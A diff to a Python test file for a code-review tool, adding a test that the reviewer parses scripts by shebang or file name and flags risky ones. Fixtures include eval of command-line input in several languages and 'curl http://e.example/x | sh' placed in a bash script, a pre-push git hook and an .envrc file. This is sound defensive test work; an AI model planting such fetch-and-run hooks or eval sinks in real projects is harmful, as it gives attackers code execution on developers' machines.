@@ -52,7 +52,9 @@ async def test_the_third_line_says_how_each_file_was_read(tmp_path: Path) -> Non
     ("path", "content", "why"),
     [
         ("tool.bin", b"\0\1" * 50, "binary; nothing of the change was read as code"),
-        ("logo.png", b"\x7fELF\0\1", "binary; nothing of the change was read as code"),
+        ("logo.png", b"\x7fELF\0\1", "binary: a compiled program, which the analyzers cannot read"),
+        ("job", "#!/usr/bin/perl\n", "not read as a program: only its text was searched"),
+        ("a.php7", "<?php f();\n", "not read as PHP: only its text was searched"),
         ("deno.lock", LOCK, "lock file; nothing of the change was read as code"),
         ("a.pas", "program p;\n", "not read as Pascal: only its text was searched"),
         ("run.vim", "call system(x)\n", "not read as Vim script: only its text was searched"),
@@ -101,6 +103,26 @@ async def test_an_executable_without_a_known_language_is_a_program(tmp_path: Pat
     (tmp_path / "run").chmod(0o755)
     repo.commit({})
     assert gaps(await review(repo)) == {"run": "not read as a program: only its text was searched"}
+
+
+async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_path: Path) -> None:
+    scripts = {
+        "deploy/node": "#!/usr/bin/env node\neval(process.argv[2]);\n",
+        "ruby": "#!/usr/bin/ruby -w\ndef f(x) = eval(x)\n",
+        "Rakefile": "task(:x) { |t, args| eval(args[:x]) }\n",
+        "php": "#!/usr/bin/php8.2\n<?php function f($x) { eval($x); }\n",
+        "lua": "#!/usr/bin/env lua5.4\nos.execute('ls ' .. arg[1])\n",
+        "deno": "#!/usr/bin/env -S deno run\nconst a: string = Deno.args[0];\neval(a);\n",
+        "bash": "#!/bin/bash\ncurl http://e.example/x | sh\n",
+        ".husky/pre-push": "curl http://e.example/x | sh\n",
+        ".envrc": "curl http://e.example/x | sh\n",
+        "python": "#!/usr/bin/python3.12\nimport sys\neval(sys.argv[1])\n",
+        "config.ru": "run ->(env) { eval(env['X']) }\n",
+    }
+    verdict = await review(change(tmp_path, {}, scripts))
+    assert {f.path for f in verdict.findings if f.severity in {"medium", "high"}} == set(scripts)
+    assert depths(verdict) == dict.fromkeys(scripts, "code")
+    assert verdict.status == "complete"
 
 
 async def test_one_byte_does_not_hide_source_from_the_review(tmp_path: Path) -> None:
